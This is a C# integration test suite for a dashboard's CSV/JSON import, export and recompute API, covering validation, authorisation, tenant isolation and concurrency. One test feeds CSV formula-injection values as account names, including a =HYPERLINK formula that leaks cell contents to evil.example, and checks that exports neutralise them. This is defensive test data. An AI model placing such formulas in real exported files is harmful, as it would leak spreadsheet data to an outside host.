using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Security.Claims;
using System.Text;
using System.Text.Json;
using CohortDashboard.Data;
using CohortDashboard.Data.Demo;
using CohortDashboard.Data.Import;
using CohortDashboard.Data.Tenancy;
using CohortDashboard.Testing;
using CohortDashboard.Web.Features.Auth;
using CohortDashboard.Web.Features.Import;
using CohortDashboard.Web.Features.Platform;
using Microsoft.AspNetCore.Authorization;
using Microsoft.AspNetCore.Routing;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace CohortDashboard.Web.Tests.Import;

/// <summary><c>/api/import</c>, <c>/api/export</c> and <c>/api/recompute</c> over real Kestrel and a real SQLite file.</summary>
public sealed class ImportApiTests(SeededApp app) : IClassFixture<SeededApp>
{
    private const long Northwind = DemoDataGenerator.NorthwindOrgId;
    private const long Contoso = DemoDataGenerator.ContosoOrgId;
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    private const string OrderHeader = "external_id,account_external_id,placed_at,status,gross_revenue,discounts,refunded_amount,refunded_at,tags\n";

    private HttpClient ApiKeyClient()
    {
        var client = new HttpClient { BaseAddress = app.BaseAddress };
        client.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", CohortAppFactory.TestApiKey);
        return client;
    }

    private static Task<HttpResponseMessage> PostCsvAsync(HttpClient client, string entity, string csv, string query = "") =>
        client.PostAsync($"/api/import/{entity}{query}", new StringContent(csv, new UTF8Encoding(false), "text/csv"), Ct);

    private static string Accounts(string prefix, int count, string month = "2025-06") =>
        "External_ID,Name,Segment,created_at,STATUS,arr\n" + string.Concat(Enumerable.Range(1, count)
            .Select(i => $"{prefix}-A{i},Café {prefix} {i},SMB,{month}-{i % 27 + 1:00},active,{i * 100}\n"));

    private static string Orders(string prefix, int accounts, int perAccount, string month = "2025-06") =>
        OrderHeader + string.Concat(Enumerable.Range(1, accounts).SelectMany(a => Enumerable.Range(1, perAccount)
            .Select(o => $"{prefix}-O{a}-{o},{prefix}-A{a},{month}-{o % 27 + 1:00}T12:00:00,paid,{a * 10 + o}.25,,,,\n")));

    private AsyncServiceScope OrgServices(long orgId)
    {
        var scope = app.Factory.Services.CreateAsyncScope();
        scope.ServiceProvider.GetRequiredService<OrgScope>().Set(orgId);
        return scope;
    }

    private async Task<T> WithDbAsync<T>(long orgId, Func<CohortDbContext, Task<T>> query)
    {
        await using var scope = OrgServices(orgId);
        await using var db = await scope.ServiceProvider.GetRequiredService<IDbContextFactory<CohortDbContext>>().CreateDbContextAsync(Ct);
        return await query(db);
    }

    private Task<(int Accounts, int Orders)> CountsAsync(long orgId) =>
        WithDbAsync(orgId, async db => (await db.Accounts.CountAsync(Ct), await db.Orders.CountAsync(Ct)));

    private static async Task<JsonElement> JsonAsync(HttpResponseMessage response) => await response.Content.ReadFromJsonAsync<JsonElement>(Ct);

    [Fact]
    public async Task PostImport_NewAccountsThenOrders_200WithCountsAndRowsStored()
    {
        using var client = ApiKeyClient();
        var before = await CountsAsync(Northwind);

        using var accounts = await PostCsvAsync(client, "accounts", Accounts("NEW", 5));
        Assert.Equal(HttpStatusCode.OK, accounts.StatusCode);
        var body = await JsonAsync(accounts);
        Assert.Equal(("accounts", 5, 5, 0, 0), (body.GetProperty("entity").GetString(), body.GetProperty("rows_read").GetInt32(),
            body.GetProperty("inserted").GetInt32(), body.GetProperty("updated").GetInt32(), body.GetProperty("skipped").GetInt32()));

        using var orders = await PostCsvAsync(client, "orders", Orders("NEW", 5, 3));
        Assert.Equal(HttpStatusCode.OK, orders.StatusCode);
        Assert.Equal(15, (await JsonAsync(orders)).GetProperty("inserted").GetInt32());

        Assert.Equal((before.Accounts + 5, before.Orders + 15), await CountsAsync(Northwind));
        Assert.Equal("Café NEW 1", await WithDbAsync(Northwind, db => db.Accounts.Where(a => a.ExternalId == "NEW-A1").Select(a => a.Name).SingleAsync(Ct)));
        var audit = await WithDbAsync(Northwind, db => db.AuditEvents.Where(e => e.Action == "import.orders").OrderBy(e => e.Id).LastAsync(Ct));
        Assert.Equal("api-key:demo", audit.Actor);
        Assert.Contains("\"inserted\":15", audit.After);
    }

    [Fact]
    public async Task PostImport_SameFileTwice_SecondChangesNothing()
    {
        using var client = ApiKeyClient();
        (await PostCsvAsync(client, "accounts", Accounts("TWICE", 3))).EnsureSuccessStatusCode();
        (await PostCsvAsync(client, "orders", Orders("TWICE", 3, 2))).EnsureSuccessStatusCode();
        var rows = await WithDbAsync(Northwind, db => db.Orders.AsNoTracking().Where(o => o.ExternalId.StartsWith("TWICE-"))
            .OrderBy(o => o.Id).Select(o => new { o.Id, o.ExternalId, o.GrossRevenue, o.PlacedAt, o.AccountId }).ToListAsync(Ct));

        using var again = await PostCsvAsync(client, "orders", Orders("TWICE", 3, 2));

        var body = await JsonAsync(again);
        Assert.Equal((0, 0, 6), (body.GetProperty("inserted").GetInt32(), body.GetProperty("updated").GetInt32(), body.GetProperty("unchanged").GetInt32()));
        Assert.Equal(rows.Select(r => r.ToString()), await WithDbAsync(Northwind, db => db.Orders.AsNoTracking().Where(o => o.ExternalId.StartsWith("TWICE-"))
            .OrderBy(o => o.Id).Select(o => new { o.Id, o.ExternalId, o.GrossRevenue, o.PlacedAt, o.AccountId }).ToListAsync(Ct)).ContinueWith(t => t.Result.Select(r => r.ToString())));
    }

    [Fact]
    public async Task PostImport_FileWithErrors_400ProblemListAndNothingWritten()
    {
        using var client = ApiKeyClient();
        (await PostCsvAsync(client, "accounts", Accounts("BAD", 2))).EnsureSuccessStatusCode();
        var before = await CountsAsync(Northwind);
        var csv = OrderHeader +
                  "BAD-O1,BAD-A1,2025-06-01,paid,10,,,,\n" +
                  "BAD-O2,BAD-A9,2025-06-02,paid,10,,,,\n" +          // unknown account
                  "BAD-O3,BAD-A1,2025-06-03,shipped,10,,,,\n" +       // enum
                  "BAD-O4,BAD-A1,31/06/2025,paid,10,,,,\n" +          // date
                  "BAD-O5,BAD-A1,2025-06-05,paid,10,,20,,\n" +        // refund above gross
                  "BAD-O1,BAD-A2,2025-06-06,paid,10,,,,\n";           // duplicate

        using var response = await PostCsvAsync(client, "orders", csv);

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        var body = await JsonAsync(response);
        var errors = body.GetProperty("errors").EnumerateArray()
            .Select(e => (e.GetProperty("row").GetInt32(), e.GetProperty("column").GetString())).ToList();
        Assert.Equal([(3, "account_external_id"), (4, "status"), (5, "placed_at"), (6, "refunded_amount"), (7, "external_id")], errors);
        Assert.Equal(5, body.GetProperty("error_count").GetInt32());
        Assert.Equal(before, await CountsAsync(Northwind));
    }

    [Fact]
    public async Task PostImport_SkipInvalid_ValidRowsWrittenAndSkippedCounted()
    {
        using var client = ApiKeyClient();
        (await PostCsvAsync(client, "accounts", Accounts("SKIP", 1))).EnsureSuccessStatusCode();
        var before = await CountsAsync(Northwind);
        var csv = OrderHeader + "SKIP-O1,SKIP-A1,2025-06-01,paid,10,,,,\nSKIP-O2,SKIP-A1,2025-06-02,paid,-1,,,,\nSKIP-O3,SKIP-A1,2025-06-03,paid,3,,,,\n";

        using var refused = await PostCsvAsync(client, "orders", csv, "?skip_invalid=false");
        Assert.Equal(HttpStatusCode.BadRequest, refused.StatusCode);
        using var response = await PostCsvAsync(client, "orders", csv, "?skip_invalid=true");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var body = await JsonAsync(response);
        Assert.Equal((2, 1), (body.GetProperty("inserted").GetInt32(), body.GetProperty("skipped").GetInt32()));
        Assert.Equal(3, body.GetProperty("errors")[0].GetProperty("row").GetInt32());
        Assert.Equal(before.Orders + 2, (await CountsAsync(Northwind)).Orders);
    }

    [Fact]
    public async Task PostImport_JsonArray_Imported()
    {
        using var client = ApiKeyClient();
        const string json = """[{"external_id":"JSON-A1","name":"Zoë Ltd","segment":"Enterprise","created_at":"2025-05-01T10:00:00Z","status":"active","arr":1200.5,"health_score":90}]""";

        using var response = await client.PostAsync("/api/import/accounts", new StringContent(json, Encoding.UTF8, "application/json"), Ct);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var account = await WithDbAsync(Northwind, db => db.Accounts.SingleAsync(a => a.ExternalId == "JSON-A1", Ct));
        Assert.Equal(("Zoë Ltd", 1200.5m, 90), (account.Name, account.Arr, account.HealthScore));
    }

    [Fact]
    public async Task PostImport_Utf8BomAndQuotedNewline_ReadExactly()
    {
        using var client = ApiKeyClient();
        var csv = "external_id,name,segment,created_at,status\nBOM-A1,\"Ünïcode\nTwo lines\",SMB,2025-06-01,active\n";
        var bytes = new UTF8Encoding(true).GetPreamble().Concat(Encoding.UTF8.GetBytes(csv)).ToArray();
        using var content = new ByteArrayContent(bytes);
        content.Headers.ContentType = new MediaTypeHeaderValue("text/csv");

        using var response = await client.PostAsync("/api/import/accounts", content, Ct);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("Ünïcode\nTwo lines", await WithDbAsync(Northwind, db => db.Accounts.Where(a => a.ExternalId == "BOM-A1").Select(a => a.Name).SingleAsync(Ct)));
    }

    [Theory]
    [InlineData("external_id;name;segment;created_at;status\nX;Y;SMB;2025-06-01;active\n", "semicolon")]
    [InlineData("X1,Y,SMB,2025-06-01,active\n", "header row missing")]
    public async Task PostImport_MalformedFile_400SayingWhy(string csv, string expected)
    {
        using var client = ApiKeyClient();
        using var response = await PostCsvAsync(client, "accounts", csv, "?skip_invalid=true");
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains(expected, (await JsonAsync(response)).GetProperty("errors")[0].GetProperty("problem").GetString());
    }

    [Theory]
    [InlineData("POST", "/api/import/customers")]
    [InlineData("GET", "/api/export/customers")]
    [InlineData("GET", "/api/import/customers/template")]
    public async Task Route_UnknownEntity_404ProblemDetails(string method, string path)
    {
        using var client = ApiKeyClient();
        using var request = new HttpRequestMessage(new HttpMethod(method), path);
        if (method == "POST") request.Content = new StringContent("a,b\n", Encoding.UTF8, "text/csv");
        using var response = await client.SendAsync(request, Ct);
        Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
        Assert.Contains("account_products", (await JsonAsync(response)).GetProperty("detail").GetString());
    }

    [Fact]
    public async Task PostImport_OtherMediaType_415()
    {
        using var client = ApiKeyClient();
        using var response = await client.PostAsync("/api/import/accounts", new StringContent("<x/>", Encoding.UTF8, "application/xml"), Ct);
        Assert.Equal(HttpStatusCode.UnsupportedMediaType, response.StatusCode);
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task PostImport_BodyOver100MB_413(bool declareLength)
    {
        using var client = ApiKeyClient();
        using var content = new StreamContent(new ZeroStream(ImportService.MaxBytes + 1));
        content.Headers.ContentType = new MediaTypeHeaderValue("text/csv");
        // Without a declared length the body is chunked, so only counting the bytes that arrive can catch it.
        if (declareLength) content.Headers.ContentLength = ImportService.MaxBytes + 1;
        using var request = new HttpRequestMessage(HttpMethod.Post, "/api/import/orders") { Content = content };

        using var response = await client.SendAsync(request, Ct);

        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, response.StatusCode);
    }

    /// <summary>A body of <c>length</c> bytes that costs no memory.</summary>
    private sealed class ZeroStream(long length) : Stream
    {
        private long _position;
        public override bool CanRead => true;
        public override bool CanSeek => false;
        public override bool CanWrite => false;
        public override long Length => length;
        public override long Position { get => _position; set => throw new NotSupportedException(); }
        public override void Flush() { }
        public override int Read(byte[] buffer, int offset, int count)
        {
            var n = (int)Math.Min(count, length - _position);
            Array.Fill(buffer, (byte)'x', offset, n);
            _position += n;
            return n;
        }
        public override long Seek(long offset, SeekOrigin origin) => throw new NotSupportedException();
        public override void SetLength(long value) => throw new NotSupportedException();
        public override void Write(byte[] buffer, int offset, int count) => throw new NotSupportedException();
    }

    [Fact]
    public async Task Spool_StreamOverLimit_RefusedAndTempFileRemoved()
    {
        var before = Directory.GetFiles(Path.GetTempPath(), "cohort-import-*").Length;
        await Assert.ThrowsAsync<ImportTooLargeException>(() =>
            SpooledImportFile.CreateAsync(new MemoryStream(new byte[300_000]), ImportFormat.Csv, 200_000, Ct));
        Assert.True(Directory.GetFiles(Path.GetTempPath(), "cohort-import-*").Length <= before);
    }

    [Theory]
    [InlineData(DemoSession.Analyst, "POST", "/api/import/accounts")]
    [InlineData(DemoSession.Analyst, "GET", "/api/export/orders")]
    [InlineData(DemoSession.AccountManager, "POST", "/api/import/orders")]
    [InlineData(DemoSession.Analyst, "POST", "/api/recompute")]
    public async Task Route_NonAdminSession_403AndNothingWritten(string subject, string method, string path)
    {
        using var client = await DemoSession.SignedInClientAsync(app.Factory, subject);
        var before = await CountsAsync(Northwind);
        using var request = new HttpRequestMessage(new HttpMethod(method), path);
        if (method == "POST") request.Content = new StringContent(Accounts("FORBID", 1), Encoding.UTF8, "text/csv");
        using var response = await client.SendAsync(request, Ct);
        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Equal(before, await CountsAsync(Northwind));
    }

    [Fact]
    public async Task Policy_ApiKeyWithoutImportWrite_Refused_WithIt_Allowed()
    {
        var authorization = app.Factory.Services.GetRequiredService<IAuthorizationService>();
        ClaimsPrincipal Key(params string[] scopes) => new(new ClaimsIdentity(
            [new Claim(ClaimTypes.NameIdentifier, "k"), new Claim(CohortClaims.OrgId, "1"), .. scopes.Select(s => new Claim(CohortClaims.Scope, s))],
            ApiKeyAuthentication.SchemeName));
        var policy = Policies.AdminOrScope(ApiScopes.ImportWrite);

        Assert.False((await authorization.AuthorizeAsync(Key(ApiScopes.AnalyticsRead, ApiScopes.ExpansionWrite), null, policy)).Succeeded);
        Assert.True((await authorization.AuthorizeAsync(Key(ApiScopes.ImportWrite), null, policy)).Succeeded);

        // ...and that policy is the one every import, export and recompute route carries.
        var endpoints = app.Factory.Services.GetRequiredService<EndpointDataSource>().Endpoints.OfType<RouteEndpoint>()
            .Where(e => e.RoutePattern.RawText is { } raw && (raw.StartsWith("/api/import") || raw.StartsWith("/api/export") || raw == "/api/recompute"))
            .ToList();
        Assert.Equal(4, endpoints.Count);
        Assert.All(endpoints, e => Assert.Contains(e.Metadata.GetOrderedMetadata<IAuthorizeData>(), a => a.Policy == policy));
    }

    [Fact]
    public async Task PostImport_ContosoSameExternalIds_NorthwindRowsUntouched()
    {
        using var northwindAdmin = ApiKeyClient();
        (await PostCsvAsync(northwindAdmin, "accounts", Accounts("XORG", 2))).EnsureSuccessStatusCode();
        var northwind = await WithDbAsync(Northwind, db => db.Accounts.AsNoTracking().Where(a => a.ExternalId.StartsWith("XORG-"))
            .OrderBy(a => a.Id).Select(a => a.Id + a.Name + a.Arr).ToListAsync(Ct));

        using var contoso = await DemoSession.SignedInClientAsync(app.Factory, DemoSession.ContosoAdmin);
        using var response = await PostCsvAsync(contoso, "accounts", Accounts("XORG", 2).Replace("Café", "Contoso"));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal(2, (await JsonAsync(response)).GetProperty("inserted").GetInt32());
        Assert.Equal(northwind, await WithDbAsync(Northwind, db => db.Accounts.AsNoTracking().Where(a => a.ExternalId.StartsWith("XORG-"))
            .OrderBy(a => a.Id).Select(a => a.Id + a.Name + a.Arr).ToListAsync(Ct)));
        Assert.Equal(2, await WithDbAsync(Contoso, db => db.Accounts.CountAsync(a => a.ExternalId.StartsWith("XORG-") && a.Name.StartsWith("Contoso"), Ct)));
    }

    [Fact]
    public async Task GetExport_EveryEntity_ImportsBackWithoutChanges()
    {
        using var client = ApiKeyClient();
        foreach (var entity in new[] { "accounts", "products", "account_products", "orders" })
        {
            using var export = await client.GetAsync($"/api/export/{entity}", Ct);
            Assert.Equal(HttpStatusCode.OK, export.StatusCode);
            Assert.Equal("text/csv", export.Content.Headers.ContentType?.MediaType);
            Assert.Contains(entity, export.Content.Headers.ContentDisposition?.FileName);
            var csv = await export.Content.ReadAsStringAsync(Ct);
            Assert.StartsWith(string.Join(',', ImportColumns.For(ImportColumns.TryParseEntity(entity, out var kind) ? kind : default).Select(c => c.Name)), csv);

            using var back = await PostCsvAsync(client, entity, csv);
            Assert.True(back.StatusCode == HttpStatusCode.OK, entity + ": " + await back.Content.ReadAsStringAsync(Ct));
            var body = await JsonAsync(back);
            Assert.Equal((0, 0), (body.GetProperty("inserted").GetInt32(), body.GetProperty("updated").GetInt32()));
            Assert.True(body.GetProperty("unchanged").GetInt32() > 0);
            var stored = await WithDbAsync(Northwind, db => kind switch
            {
                ImportEntity.Accounts => db.Accounts.CountAsync(Ct),
                ImportEntity.Products => db.Products.CountAsync(Ct),
                ImportEntity.AccountProducts => db.AccountProducts.CountAsync(Ct),
                _ => db.Orders.CountAsync(Ct),
            });
            Assert.Equal(stored, body.GetProperty("rows_read").GetInt32());
        }
    }

    [Fact]
    public async Task GetExport_FormulaLikeNames_NeutralisedInCsvAndImportBackChangesNothing()
    {
        using var client = ApiKeyClient();
        // Stored through JSON, so the values are exactly these; each maps to the field the export must write.
        (string Name, string Field)[] hostile =
        [
            ("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"x\"\")\""),
            ("+SUM(1,2)", "\"'+SUM(1,2)\""),
            ("-2+3", "'-2+3"),
            ("@cmd", "'@cmd"),
            ("'=already quoted", "''=already quoted"),
            ("-12.5", "-12.5"),
        ];
        var json = JsonSerializer.Serialize(hostile.Select((h, i) => new Dictionary<string, object>
        {
            ["external_id"] = $"EVIL-{i}", ["name"] = h.Name, ["segment"] = "SMB", ["created_at"] = "2025-05-01", ["status"] = "active",
            ["territory"] = "=1+1",
        }));
        using (var stored = await client.PostAsync("/api/import/accounts", new StringContent(json, Encoding.UTF8, "application/json"), Ct))
            Assert.True(stored.StatusCode == HttpStatusCode.OK, await stored.Content.ReadAsStringAsync(Ct));

        var csv = await client.GetStringAsync("/api/export/accounts", Ct);
        using var back = await PostCsvAsync(client, "accounts", csv);

        var lines = csv.Split("\r\n");
        for (var i = 0; i < hostile.Length; i++)
        {
            var line = Assert.Single(lines, l => l.StartsWith($"EVIL-{i},", StringComparison.Ordinal));
            Assert.StartsWith($"EVIL-{i},{hostile[i].Field},SMB,'=1+1,", line);
        }
        Assert.True(back.StatusCode == HttpStatusCode.OK, await back.Content.ReadAsStringAsync(Ct));
        var body = await JsonAsync(back);
        Assert.Equal((0, 0), (body.GetProperty("inserted").GetInt32(), body.GetProperty("updated").GetInt32()));
        var names = await WithDbAsync(Northwind, db => db.Accounts.Where(a => a.ExternalId.StartsWith("EVIL-"))
            .OrderBy(a => a.ExternalId).Select(a => new { a.Name, a.Territory }).ToListAsync(Ct));
        Assert.Equal(hostile.Select(h => h.Name), names.Select(n => n.Name));
        Assert.All(names, n => Assert.Equal("=1+1", n.Territory));
    }

    [Fact]
    public async Task GetTemplate_EveryEntityInOrder_ImportsCleanly()
    {
        using var client = await DemoSession.SignedInClientAsync(app.Factory, DemoSession.ContosoAdmin);
        foreach (var entity in new[] { "accounts", "products", "account_products", "orders" })
        {
            var template = await client.GetStringAsync($"/api/import/{entity}/template", Ct);
            Assert.Equal(2, template.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Length);
            using var response = await PostCsvAsync(client, entity, template);
            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        }
    }

    [Fact]
    public async Task PostImport_TwoAtOnceIntoOneOrg_BothSucceedOneAfterTheOther()
    {
        using var client = ApiKeyClient();
        (await PostCsvAsync(client, "accounts", Accounts("CONC", 4))).EnsureSuccessStatusCode();
        var before = await CountsAsync(Northwind);
        // Both files touch CONC-O1-1: whichever runs second sees the first's row (an update, not a second insert).
        var first = Orders("CONC", 4, 50);
        var second = Orders("CONC", 1, 1).Replace(".25,", ".75,") + string.Concat(Enumerable.Range(1, 100).Select(i => $"CONC-B{i},CONC-A2,2025-06-10,paid,1,,,,\n"));

        var responses = await Task.WhenAll(PostCsvAsync(client, "orders", first), PostCsvAsync(client, "orders", second));

        Assert.All(responses, r => Assert.Equal(HttpStatusCode.OK, r.StatusCode));
        var bodies = await Task.WhenAll(responses.Select(JsonAsync));
        Assert.Equal(200 + 100 + 1, bodies.Sum(b => b.GetProperty("inserted").GetInt32() + b.GetProperty("updated").GetInt32() + b.GetProperty("unchanged").GetInt32()));
        Assert.Equal(before.Orders + 300, (await CountsAsync(Northwind)).Orders);
        Assert.Equal(1, bodies.Sum(b => b.GetProperty("updated").GetInt32())); // the shared row: inserted once, updated once
        foreach (var r in responses) r.Dispose();
    }

    [Fact]
    public async Task ImportAsync_WhileAnotherImportHoldsTheOrg_WaitsUntilItEnds()
    {
        await using var scope = OrgServices(Northwind);
        var jobs = scope.ServiceProvider.GetRequiredService<OrgJobs>();
        var service = scope.ServiceProvider.GetRequiredService<ImportService>();
        using var spooled = await SpooledImportFile.CreateAsync(new MemoryStream(Encoding.UTF8.GetBytes(Accounts("GATE", 1))), ImportFormat.Csv, ImportService.MaxBytes, Ct);

        var held = await jobs.WaitAsync(Northwind, ImportService.Job, Ct);
        var import = service.ImportAsync(ImportEntity.Accounts, spooled.File, false, "test", null, Ct);
        await Task.Delay(500, Ct);
        Assert.False(import.IsCompleted);
        Assert.Equal(0, await WithDbAsync(Northwind, db => db.Accounts.CountAsync(a => a.ExternalId == "GATE-A1", Ct)));

        held.Dispose();
        var outcome = await import.WaitAsync(TimeSpan.FromSeconds(30), Ct);
        Assert.Equal(1, outcome.Counts.Inserted);
    }

    [Fact]
    public async Task PostRecompute_AfterOrderImport_StepsInOrderStoreCurrentStaleMarkCleared()
    {
        using var client = ApiKeyClient();
        (await PostCsvAsync(client, "accounts", Accounts("RECO", 2))).EnsureSuccessStatusCode();
        (await PostCsvAsync(client, "orders", Orders("RECO", 2, 2))).EnsureSuccessStatusCode();
        Assert.NotNull(await WithDbAsync(Northwind, db => db.Organizations.Select(o => o.ResultsStaleSince).SingleAsync(Ct)));

        using var response = await client.PostAsync("/api/recompute", null, Ct);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var body = await JsonAsync(response);
        Assert.True(body.GetProperty("success").GetBoolean());
        Assert.Equal(["Columnar store", "Account cohorts", "Product affinity", "Expansion signals"],
            body.GetProperty("steps").EnumerateArray().Select(s => s.GetProperty("name").GetString()));
        Assert.All(body.GetProperty("steps").EnumerateArray(), s => Assert.Equal("done", s.GetProperty("state").GetString()));
        var version = await WithDbAsync(Northwind, db => OrgDataVersion.OrdersAsync(db, Ct));
        Assert.Equal(version, app.Factory.Services.GetRequiredService<Data.Columnar.ColumnarStore>().VersionOf(Northwind));
        Assert.Null(await WithDbAsync(Northwind, db => db.Organizations.Select(o => o.ResultsStaleSince).SingleAsync(Ct)));
    }
}
